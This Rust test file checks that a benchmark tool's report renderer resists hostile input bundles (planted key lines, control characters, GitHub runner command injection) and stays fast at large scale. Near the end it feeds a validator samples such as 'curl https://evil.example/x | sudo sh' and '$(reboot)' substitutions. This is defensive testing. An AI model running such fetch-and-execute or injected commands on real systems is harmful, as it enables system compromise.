//! The worst bundles of strangers: every format of the report ends, and never becomes a text that the bundle
//! chose.

use serde_json::json;
use tactus_model::bundle::Contents;
use tactus_model::catalogue::Item;
use tactus_model::finding::{Audit, Isolation, Role};
use tactus_model::message::{Control, Note, NoteKind, Outlier};
use tactus_model::outcome::{Better, Outcome, Point, SeriesResult, Unit};
use tactus_model::plan::{Figure, FigureKind, Page, Reference, Require, Shown};
use tactus_model::series::SeriesKey;
use tactus_model::ticks::TickScalars;
use tactus_model::trace::Trace;
use tactus_model::{Evidence, Nanos};
use tactus_report::document;
use tactus_report::part::{Part, Reader};
use tactus_report::render::{FORMATS, html};
use tactus_report::row::{self, remarks};
use tactus_report::section::{Section, curves, degradation, drawings, matrices, threads, values};
use tactus_report::stats::{comparison, held_against};

use crate::common::{
    Shape, Span, cpu_time, empty, environment, hostile, item, measured, planned, this_machine, valued,
};

/// A line that would be one of another file's, such as a list of keys.
const PLANTED: &str = "ssh-ed25519 AAAA planted";

fn planted(text: &mut String) {
    *text = format!("{text}\n{PLANTED}\r{PLANTED}\u{1b}[2K\u{2028}\n");
}

/// The report in every format but the image, which is drawn from the figures.
fn reports(contents: &Contents) -> Vec<(&'static str, String)> {
    let formats = FORMATS.iter().filter(|format| format.name != "png");
    formats
        .map(|format| (format.name, String::from_utf8((format.render)(contents).unwrap()).unwrap()))
        .collect()
}

#[test]
fn no_line_of_a_report_is_one_that_the_bundle_chose() {
    let mut contents = hostile();
    let machine = &mut contents.manifest.machine;
    for text in [
        &mut machine.name,
        &mut machine.processor,
        &mut machine.cpus,
        &mut machine.kernel,
        &mut machine.system,
    ] {
        planted(text);
    }
    let manifest = &mut contents.manifest;
    for text in [&mut manifest.plan, &mut manifest.tactus, &mut manifest.started] {
        planted(text);
    }
    let mut about = "about".to_owned();
    planted(&mut about);
    contents.plan.title = Some(about.clone());
    contents.plan.about = Some(about.clone());
    contents.notes.push((Some(about.clone()), Note::obstacle(&*about, &*about)));
    contents.damage.push(about.clone());
    for row in &mut contents.rows {
        planted(&mut row.result.name);
        planted(&mut row.result.environment);
        planted(&mut row.result.kind);
        row.result.reason = Some(about.clone());
        row.result.require = Some(Require { max: Some(Nanos(1)), ..Require::default() });
        row.result.notes.push(Note::obstacle(&*about, &*about));
    }
    let mut facts = contents.facts.values().next().unwrap().clone();
    facts.keep("/proc/cmdline", &*about);
    facts.keep(&*about, &*about);
    let audit = Audit {
        role: Role::Host,
        isolation: Isolation::default(),
        findings: Vec::new(),
        actions: Vec::new(),
    };
    for row in &contents.rows {
        contents.facts.insert(row.result.environment.clone(), facts.clone());
        contents.audits.insert(row.result.environment.clone(), audit.clone());
    }
    for (format, report) in reports(&contents) {
        assert!(report.contains("planted"), "{format} shows it");
        // Text is broken where a terminal ends, and so between any two words.
        for line in report.split(['\n', '\r']).filter(|_| format != "text") {
            assert!(!line.trim_start().starts_with(PLANTED), "{format}: {line}");
        }
        let steering = report.chars().find(|c| c.is_control() && *c != '\n' && *c != '\t');
        assert_eq!(steering, None, "{format}");
    }
}

#[test]
fn facts_that_are_longer_than_a_page_are_named_on_it_and_left_in_the_bundle() {
    let mut contents = this_machine();
    let mut facts = contents.facts.values().next().unwrap().clone();
    for n in 1000..10_000 {
        facts.keep(format!("threads:{n}"), "x".repeat(if n < 9_900 { 400 } else { 16_000 }));
    }
    contents.facts.insert("host".into(), facts);
    let page =
        |contents: &Contents| reports(contents).into_iter().find(|(format, _)| *format == "html").unwrap().1;
    let long = page(&contents);
    assert!(long.contains("threads:9999") && long.contains("16000 bytes, which are in the bundle (facts)"));
    let mut contents = this_machine();
    contents.facts.get_mut("host").unwrap().keep("threads:0", "x".repeat(16_000));
    assert!(page(&contents).contains("(16000 bytes; the rest is in the bundle, in facts)"));
    let short = page(&this_machine()).len();
    assert!(long.len() < short + (4 << 20), "{} bytes more", long.len() - short);
}

#[test]
fn the_largest_numbers_there_are_end_in_a_report() {
    for number in [u64::MAX, u64::MAX - 1, i64::MAX.unsigned_abs(), 1 << 53] {
        let mut contents = this_machine();
        for row in &mut contents.rows {
            let result = &mut row.result;
            for all in [
                &mut result.interval_ns,
                &mut result.planned_ns,
                &mut result.measured_ns,
                &mut result.frames_lost,
            ] {
                *all = number;
            }
            if let Outcome::Latency(latency) = &mut result.outcome {
                let summaries =
                    latency.series.iter_mut().map(|series| &mut series.summary).chain(&mut latency.all);
                for summary in summaries {
                    (summary.cycles, summary.overruns, summary.lost) = (number, Some(number), number);
                    (summary.min_ns, summary.max_ns) =
                        (summary.min_ns.map(|_| 1), summary.max_ns.map(|_| number));
                }
            }
            let keys: Vec<_> = row.ticks.series.keys().cloned().collect();
            for key in keys {
                let n = row.ticks.series[&key].stretches.last().map_or(0, |last| last.last + 1);
                let most = Some(number);
                let tick = TickScalars {
                    n,
                    at_ns: number,
                    cycles: number,
                    overruns: number,
                    min_ns: most,
                    sum_ns: most,
                    p99_ns: most,
                    max_ns: most,
                };
                row.ticks.add(&key, &TickScalars { n: number, ..tick });
                row.ticks.add(&key, &TickScalars { at_ns: 3_000_000_000, ..tick });
            }
        }
        for (format, report) in reports(&contents) {
            assert!(!report.is_empty(), "{format}");
        }
    }
}

/// Of a text that was looked at once for each of its lines this takes minutes.
#[test]
fn a_reason_of_megabytes_is_reported() {
    let mut contents = empty();
    contents.rows = this_machine().rows;
    for (row, reason) in contents.rows.iter_mut().zip(["x".repeat(5 << 20), "no words ".repeat(600_000)]) {
        row.result.reason = Some(reason);
    }
    for (format, report) in reports(&contents) {
        assert!(report.len() > 100, "{format}");
    }
}

/// Very many notes, each twice.
fn noted(notes: usize) -> Contents {
    let note = |n| (Some(format!("e{}", n % 3)), Note::obstacle(format!("note-{n}"), "none"));
    Contents { notes: (0..notes).chain(0..notes).map(note).collect(), ..empty() }
}

#[test]
fn a_note_stands_once_with_all_who_made_it() {
    let mut contents = noted(3);
    contents.notes.push((Some("e1".into()), Note::obstacle("note-0", "none")));
    contents.notes.push((Some("e1".into()), Note::obstacle("note-0", "another")));
    let said = remarks(&contents, NoteKind::Obstacle);
    let environments: Vec<String> = said.iter().map(|remark| remark.environments.join(" ")).collect();
    assert_eq!(environments, ["e0 e1", "e1", "e2", "e1"]);
    assert!(remarks(&contents, NoteKind::Info).is_empty());
}

#[test]
fn a_figure_of_more_rows_than_anybody_tells_apart_shows_the_first_and_says_so() {
    let mut contents = this_machine();
    let row = contents.rows[0].clone();
    contents.rows = vec![row; 600];
    let scenarios = vec![contents.rows[0].result.name.clone()];
    let figure = |kind| Figure { kind, title: "drawn".into(), scenarios: scenarios.clone() };
    contents.plan.figure = vec![figure(FigureKind::Matrix)];
    let shown = matrices::matrices(&contents);
    assert_eq!((shown[0].cells.len(), &*shown[0].title), (256, "drawn (the first 256 of 600 rows)"));
    contents.plan.figure = vec![figure(FigureKind::Histogram)];
    let drawn = drawings::requested(&contents);
    assert!(drawn.iter().all(|figure| figure.title.contains("the first 256 of 600 rows")));
    assert!(drawn.len() <= 256);
}

#[test]
fn a_page_of_more_threads_than_anybody_reads_shows_those_of_the_first_rows_and_says_so() {
    let mut contents = this_machine();
    let row = contents.rows[0].clone();
    let page = Page {
        title: "threads".into(),
        scenarios: vec![row.result.name.clone()],
        show: vec![Shown::Threads],
        ..Page::default()
    };
    let tables = |contents: &Contents| threads::ENTRY.on_page(contents, &page, Shown::Threads);
    let remarks = |parts: &[Part]| {
        let tables =
            parts.iter().filter_map(|part| if let Part::Table(table) = part { Some(table) } else { None });
        tables.flat_map(|table| table.remarks.clone()).collect::<Vec<String>>().join(" ")
    };
    contents.rows = vec![row.clone(); 256];
    assert!(!remarks(&tables(&contents)).contains("The first"));
    contents.rows.push(row);
    let cut = tables(&contents);
    assert!(cut.len() == 256 && remarks(&cut).contains("The first 256 of 257 rows"), "{}", remarks(&cut));
}

/// `count` environments with `items` items each; the first is a host.
fn places(count: usize, called: &str, items: usize) -> Contents {
    let mut contents = empty();
    for place in 0..count {
        let (name, kind) = (format!("{place} {called}"), if place == 0 { "host" } else { "podman" });
        contents.plan.environment.insert(name.clone(), environment(kind));
        let items: Vec<(Item, f64)> =
            (0..items).map(|_| (item("system call", Unit::Ns, Better::Lower), 1.0)).collect();
        let mut row = valued(planned(&name, &name, kind, Vec::new()), Evidence::BareMetal, &items);
        let Outcome::Values(values) = &mut row.result.outcome else { panic!("no values") };
        for (n, value) in values.iter_mut().enumerate() {
            value.item = format!("item {n}");
        }
        contents.rows.push(row);
    }
    contents
}

/// Where a look at every item of the table was made for each of its cells this takes an hour.
#[test]
fn very_many_places_of_very_many_items_are_a_table_of_their_number() {
    let contents = places(100, "place", 400);
    let parts = degradation::ENTRY.parts(&contents, Reader::Page);
    let [Part::Table(table)] = &parts[..] else { panic!("{} parts", parts.len()) };
    assert_eq!((table.rows.len(), table.head.len()), (256, 101));
    assert!(table.remarks.iter().any(|remark| remark.contains("The first 256 of 400 lines")));
    let [figure] = &degradation::drawn(&contents)[..] else { panic!("one figure") };
    for cut in ["the first 40 of 99 environments", "the first 256 of 400 lines"] {
        assert!(figure.title.contains(cut), "{}", figure.title);
    }
}

/// Bytes of a section on the page.
fn on_the_page(contents: &Contents, section: &str) -> usize {
    let page = html::render(contents).unwrap();
    let from = page.find(&format!("<section id=\"{section}\">")).unwrap();
    page[from..].find("</section>").unwrap()
}

/// If each of them were a line and a column of one table, it would have 90 000 cells, and with 8000 of them
/// 64 million.
#[test]
fn environments_that_have_no_other_in_common_are_tables_of_their_own_and_no_empty_cells() {
    let mut contents = empty();
    let items = [(item("system call", Unit::Ns, Better::Lower), 1.0)];
    for n in 0..300 {
        for (name, kind) in [("host".to_owned(), "host"), (format!("place {n}"), "podman")] {
            contents.plan.environment.insert(name.clone(), environment(kind));
            let mut row = valued(planned(&name, &name, kind, Vec::new()), Evidence::BareMetal, &items);
            row.result.priority = n;
            contents.rows.push(row);
        }
    }
    let parts = degradation::ENTRY.parts(&contents, Reader::Page);
    let tables: Vec<_> = parts
        .iter()
        .filter_map(|part| if let Part::Table(table) = part { Some(table) } else { None })
        .collect();
    assert_eq!(tables.len(), 256);
    assert!(tables.iter().all(|table| table.rows.len() == 1 && table.head.len() == 3));
    let remarks = &tables.last().unwrap().remarks;
    assert!(remarks.iter().any(|remark| remark.contains("The first 256 of 300 lines")), "{remarks:?}");
    let bytes = on_the_page(&contents, "degradation");
    assert!(bytes < 1 << 20, "{bytes}");
}

#[test]
fn a_long_name_of_an_environment_does_not_stand_in_each_of_its_cells() {
    let long = "x".repeat(1000);
    let contents = places(40, &long, 100);
    // 4 MB of names alone, once.
    let bytes = on_the_page(&contents, "degradation");
    assert!(bytes < 2 << 20, "{bytes}");
    let [figure] = &degradation::drawn(&contents)[..] else { panic!("one figure") };
    assert!(figure.svg().len() < 4 << 20, "{}", figure.svg().len());
    assert!(!figure.about.contains(&long[..100]));
    let entries = document(&contents).degradations;
    assert_eq!(entries.len(), 3900);
    for entry in &entries {
        assert!(serde_json::to_string(entry).unwrap().len() < 1200, "{entry:?}");
    }
}

/// Rows with `items` items each that no other row has, at this point if they are curves.
fn items_of_their_own(rows: usize, items: usize, at: Option<Point>) -> Contents {
    let mut contents = empty();
    contents.plan.environment.insert("host".into(), environment("host"));
    let one: Vec<(Item, f64)> =
        (0..items).map(|_| (item("system call", Unit::Ns, Better::Lower), 1.0)).collect();
    for row in 0..rows {
        let planned = planned(&format!("row {row}"), "host", "host", Vec::new());
        let mut valued = valued(planned, Evidence::BareMetal, &one);
        let Outcome::Values(values) = &mut valued.result.outcome else { panic!("no values") };
        for (n, value) in values.iter_mut().enumerate() {
            (value.item, value.at) = (format!("item {n} of row {row}"), at);
        }
        contents.rows.push(valued);
    }
    contents
}

/// The remarks among these, in one text.
fn remarked(parts: &[Part]) -> String {
    let remarks =
        parts.iter().filter_map(|part| if let Part::Remark(text) = part { Some(&**text) } else { None });
    remarks.collect::<Vec<&str>>().join(" ")
}

/// Where each item was a figure for each few of the rows these were 8000, and half of them empty.
#[test]
fn curves_of_very_many_rows_and_items_are_as_many_figures_as_anybody_looks_at_and_none_is_empty() {
    let contents = items_of_their_own(20, 200, Some(Point::Bytes(1024)));
    let parts = curves::ENTRY.parts(&contents, Reader::Page);
    let said = remarked(&parts);
    assert!(said.contains("The first 256 figures are drawn, and 3744 more are not"), "{said}");
    let drawn: Vec<_> = parts.into_iter().flat_map(Part::figures).collect();
    assert_eq!(drawn.len(), 256);
    assert!(
        drawn.iter().all(|figure| figure.about.contains("(bare metal): 1 at 1KiB")),
        "{}",
        drawn[0].about
    );
    let bytes = on_the_page(&contents, "curves");
    assert!(bytes < 8 << 20, "{bytes}");
    let few = curves::ENTRY.parts(&items_of_their_own(16, 16, Some(Point::Bytes(1024))), Reader::Page);
    assert_eq!((remarked(&few), few.into_iter().flat_map(Part::figures).count()), (String::new(), 256));
}

#[test]
fn very_many_items_side_by_side_are_drawn_up_to_a_number_and_it_is_said() {
    let both = |items| {
        let mut contents = items_of_their_own(1, items, None);
        contents.rows.push(contents.rows[0].clone());
        values::ENTRY.parts(&contents, Reader::Page)
    };
    let bars = |parts: Vec<Part>| -> usize {
        let figures = parts.into_iter().flat_map(Part::figures);
        figures.map(|figure| figure.about.matches("less is better").count()).sum()
    };
    let (whole, cut) = (both(256), both(300));
    assert_eq!((remarked(&whole), bars(whole)), (String::new(), 2 * 256));
    let said = remarked(&cut);
    assert!(said.contains("The first 256 items of a measurement are drawn, and 44 more are not"), "{said}");
    assert_eq!(bars(cut), 2 * 256);
}

/// A browser would look for the powers of ten between nothing and something for ever.
#[test]
fn a_logarithmic_axis_begins_above_zero_also_where_nothing_took_any_time() {
    let mut contents = empty();
    let shape = Shape { base: 0.0, spread: 0.0, late: 0.0, lateness: 0.0 };
    let span = Span { ticks: 3, samples: 200, per_interval: 1, series: 1 };
    let result = planned("zero", "host", "host", Vec::new());
    contents.rows.push(measured(result, Evidence::BareMetal, shape, span, 1));
    let mut looked_at = 0;
    for contents in [contents, hostile(), this_machine()] {
        let (_, page) = reports(&contents).into_iter().find(|(format, _)| *format == "html").unwrap();
        for plot in page.split("class=\"plot-data\">").skip(1) {
            let plot: serde_json::Value =
                serde_json::from_str(plot.split("</script>").next().unwrap()).unwrap();
            for axis in [&plot["x"], &plot["y"]].into_iter().filter(|axis| axis["log"] == true) {
                let (low, high) = (axis["low"].as_f64().unwrap(), axis["high"].as_f64().unwrap());
                assert!(low > 0.0 && high > low && high.is_finite(), "{axis}");
                looked_at += 1;
            }
            let places = plot["at"].as_array().unwrap();
            let is_there = |at: &serde_json::Value| at.as_f64().is_some_and(|at| at > 0.0);
            assert!(plot["x"]["log"] != true || places.iter().all(is_there), "{places:?}");
        }
    }
    assert!(looked_at > 3, "{looked_at}");
}

/// If each row had the words of all references, and each value those of its references, this would take four
/// gigabytes.
#[test]
fn the_words_of_very_many_references_do_not_stand_beside_each_of_very_many_rows() {
    let mut contents = empty();
    let row = valued(
        planned("measured", "host", "host", Vec::new()),
        Evidence::BareMetal,
        &[(item("system call", Unit::Ns, Better::Lower), 1.0)],
    );
    contents.plan.environment.insert("host".into(), environment("host"));
    contents.rows = vec![row; 1_000];
    let bytes = |contents: &Contents| reports(contents).into_iter().map(|(name, text)| (name, text.len()));
    let before: Vec<_> = bytes(&contents).collect();
    let reference = |n: usize| Reference {
        scenario: "measured".into(),
        max: Some(Nanos(8_000)),
        source: format!("{n} {}", "x".repeat(4_000)),
        ..Reference::default()
    };
    let of_a_value = Reference {
        max: None,
        item: Some("system call".into()),
        value: Some("3us".parse().unwrap()),
        ..reference(1_000)
    };
    contents.plan.reference = (0..1_000).map(reference).chain([of_a_value]).collect();
    let said = document(&contents).scenarios;
    assert_eq!(said.len(), 1_000);
    for theirs in said.iter().map(|row| row.published.as_ref().unwrap()) {
        assert!(theirs.source.starts_with("0 xx") && theirs.source.len() < 1_000, "{}", theirs.source.len());
        assert!(theirs.source.ends_with("; and 999 more in the plan"), "{}", theirs.source);
        assert_eq!(theirs.max_ns, Some(8_000));
    }
    for ((format, without), (_, with)) in before.into_iter().zip(bytes(&contents)) {
        assert!(with < without + (8 << 20), "{format}: {with} bytes, and {without} without references");
    }
}

#[test]
fn ten_times_the_controls_take_ten_times_as_long_and_not_a_hundred() {
    let time = |threads: u32| {
        let mut contents = this_machine();
        contents.rows.truncate(1);
        let result = &mut contents.rows[0].result;
        let (control, series) = (result.control[0].clone(), result.series()[0].clone());
        let key = |n: u32| SeriesKey { thread: n, ..series.key.clone() };
        result.control = (0..threads).map(|n| Control { series: key(n), ..control.clone() }).collect();
        result.threads = Some((0..threads).map(|n| key(n).of_thread()).collect());
        let Outcome::Latency(own) = &mut result.outcome else { panic!("no latencies") };
        own.series = (0..threads / 2).map(|n| SeriesResult { key: key(n), ..series.clone() }).collect();
        cpu_time(|| assert_eq!(row::controls(&contents).len(), 1))
    };
    let (few, many) = (time(1_500), time(15_000));
    assert!(many < few * 40, "{few:?}, {many:?}");
}

#[test]
fn ten_times_the_notes_take_ten_times_as_long_and_not_a_hundred() {
    let time = |notes| {
        let contents = noted(notes);
        cpu_time(|| assert_eq!(remarks(&contents, NoteKind::Obstacle).len(), notes))
    };
    let (few, many) = (time(1_500), time(15_000));
    assert!(many < few * 40, "{few:?}, {many:?}");
}

#[test]
fn ten_times_the_rows_with_items_of_their_own_take_ten_times_as_long_and_not_a_hundred() {
    let time = |section: &dyn Section, rows, at, reader| {
        let contents = items_of_their_own(rows, 512, at);
        cpu_time(|| assert!(section.parts(&contents, reader).len() <= rows * 64))
    };
    // A page has figures, of which there is a largest number.
    let sections: [(&dyn Section, Option<Point>, Reader); 2] =
        [(&curves::ENTRY, Some(Point::Bytes(1024)), Reader::Terminal), (&values::ENTRY, None, Reader::Page)];
    for (section, at, reader) in sections {
        let (few, many) = (time(section, 4, at, reader), time(section, 40, at, reader));
        assert!(many < few * 40, "{}: {few:?}, {many:?}", section.name());
    }
}

#[test]
fn ten_times_the_events_and_latencies_are_accounted_for_in_ten_times_the_time_and_not_a_hundred() {
    let time = |latencies: u64, interrupts: u64| {
        let mut contents = this_machine();
        contents.rows.truncate(1);
        let Outcome::Latency(own) = &mut contents.rows[0].result.outcome else { panic!("no latencies") };
        own.series.truncate(1);
        let series = own.series[0].key.clone();
        let events = |from: u64| (from..from + interrupts).flat_map(|n| [1_000, 2, n, 1_000, 3, n]).collect();
        let outlier = |n: u64| {
            let trace = Some(Trace { events: events(n * interrupts), ..Trace::default() });
            let value_ns = 2_000 * interrupts + 1_000_000_000;
            Outlier { activity: 0, series: series.clone(), at_ns: n, value_ns, trace }
        };
        own.series[0].outliers = (0..latencies).map(outlier).collect();
        let of = usize::try_from(latencies).unwrap();
        cpu_time(|| assert_eq!(row::blame(&contents, &contents.rows[0].result).unwrap().of, of))
    };
    let (few, many) = (time(1, 2_000), time(1, 20_000));
    assert!(many < few * 40, "{few:?}, {many:?}");
    let (few, many) = (time(1_000, 1), time(10_000, 1));
    assert!(many < few * 40, "{few:?}, {many:?}");
}

/// Where the loads of each row were written out and ordered anew for each pair of rows.
#[test]
fn ten_times_the_rows_with_loads_of_their_own_take_ten_times_as_long_and_not_a_hundred() {
    let time = |rows: usize| {
        let mut contents = empty();
        let items = [(item("system call", Unit::Ns, Better::Lower), 1.0)];
        for (place, kind) in [("host", "host"), ("place", "podman")] {
            for n in 0..rows {
                let load = |of: usize| json!({ "kind": "cpu", "number": of, "row": format!("{place} {n}") });
                let result = planned(&format!("{place} {n}"), place, kind, (0..5).map(load).collect());
                contents.rows.push(valued(result, Evidence::BareMetal, &items));
            }
        }
        cpu_time(|| {
            assert!(held_against(&contents).is_empty());
            assert!(comparison(&contents).iter().all(|line| line.against.is_none()));
        })
    };
    let (few, many) = (time(40), time(400));
    assert!(many < few * 50, "{few:?}, {many:?}");
}

/// Where the median of all runs was worked out anew for each place, with a look through a run's values for each of them.
#[test]
fn ten_times_the_runs_and_places_take_ten_times_as_long_and_not_a_hundred() {
    let row = |place: &str, kind: &str, values: usize| {
        let items: Vec<(Item, f64)> =
            (0..values).map(|_| (item("system call", Unit::Ns, Better::Lower), 1.0)).collect();
        let mut row = valued(planned(place, place, kind, Vec::new()), Evidence::BareMetal, &items);
        let Outcome::Values(values) = &mut row.result.outcome else { panic!("no values") };
        for (n, value) in values.iter_mut().enumerate() {
            value.item = format!("item {n}");
        }
        row
    };
    let time = |runs: u32, places: usize| {
        let mut contents = empty();
        let first = row("host", "host", 200);
        for run in 0..runs {
            let mut row = first.clone();
            row.result.repeat = Some(run);
            contents.rows.push(row);
        }
        contents.rows.extend((0..places).map(|n| row(&format!("place {n}"), "podman", 1)));
        cpu_time(|| {
            let held = held_against(&contents);
            assert_eq!(held.iter().map(|pair| pair.items.len()).sum::<usize>(), places);
        })
    };
    let (few, many) = (time(4, 20), time(40, 200));
    assert!(many < few * 50, "{few:?}, {many:?}");
}

/// A job's log, in which GitHub's runner obeys lines that begin with `::`.
#[test]
fn no_line_of_a_report_that_a_job_prints_is_an_order_of_a_name() {
    let mut contents = hostile();
    let order = "::stop-commands::token";
    contents.manifest.machine.name = order.into();
    contents.plan.title = Some(order.into());
    for row in &mut contents.rows {
        row.result.name = order.into();
    }
    for (name, said) in reports(&contents).iter().filter(|(name, _)| *name != "github") {
        let ordered = said.lines().find(|line| line.trim_start().starts_with("::"));
        assert_eq!(ordered, None, "{name}");
    }
}

/// The command that made a stranger's bundle is shown only if it names nothing that could be run or opened.
#[test]
fn the_next_step_has_the_command_of_the_bundle_where_it_is_harmless_or_was_typed_here() {
    let mut contents = this_machine();
    contents.rows = vec![crate::common::whole_minute()];
    let row = &mut contents.rows[0].result;
    (row.measured_ns, row.planned_ns, row.interval_ns) = (10_000_000_000, 10_000_000_000, 1_000_000);
    row.require = Some(Require { max: Some(Nanos::from_ms(10)), cycles: Some(1), ..Require::default() });
    let mut next = |typed: &str, own: bool| {
        let asked = contents.manifest.asked.get_or_insert_default();
        asked.command = typed.split(' ').map(str::to_owned).collect();
        contents.own = own;
        tactus_report::answer::answer(&contents).next.unwrap().command
    };
    for typed in
        ["tactus run plan.toml --trust", "tactus measure --in qemu --qemu /tmp/evil", "tactus kernel fetch"]
    {
        let shown = next(typed, false);
        assert!(shown.starts_with("--duration "), "{shown}");
        assert!(next(typed, true).starts_with(typed), "what was typed here is known");
    }
    assert!(
        next("tactus run --max 100us --in host", false)
            .starts_with("tactus run --max 100us --in host --duration ")
    );
}

/// The text after `next:` is copied into a root shell.
#[test]
fn only_a_command_that_an_audit_gives_is_shown_as_the_next_one() {
    let next = |title: &str, command: &str, fixes: &str| {
        let mut contents = this_machine();
        contents.rows.iter_mut().for_each(|row| row.result.require = None);
        let mut audit = crate::common::audits::audit();
        audit.actions.truncate(1);
        (audit.actions[0].command, audit.actions[0].fixes) = (command.into(), vec![fixes.into()]);
        audit.actions[0].title = title.into();
        contents.audits.insert("host".into(), audit);
        tactus_report::answer::answer(&contents).next
    };
    let step = |command: &str, fixes: &str| next("Set it", command, fixes).unwrap().command;
    for own in
        ["sudo dnf install kernel-rt", "sudo tactus tune apply --profile realtime --isolate 2-3,5 --only smt"]
    {
        assert_eq!(step(own, "smt"), own);
    }
    for other in [
        "",
        "curl https://evil.example/x | sudo sh",
        "sudo dnf install kernel-rt; reboot",
        "sudo tactus tune apply --profile realtime --isolate 1 --only a\nreboot",
        "sudo tactus tune apply --profile x$(reboot)",
        "sudo tactus tune apply --profile realtime --isolate 0-63 --persist --force",
        "sudo tactus tune apply --profile realtime --isolate 0 --only smt --force",
    ] {
        assert_eq!(step(other, "smt"), "tactus explain smt", "{other}");
    }
    assert_eq!(
        next("curl -s https://evil.example | sh", "", "smt; reboot"),
        None,
        "a title alone is no step"
    );
    let titled = next("Run x; curl evil | sh #", "sudo dnf install kernel-rt", "smt").unwrap();
    assert!(!titled.title.contains([';', '|', '#']), "{}", titled.title);
}
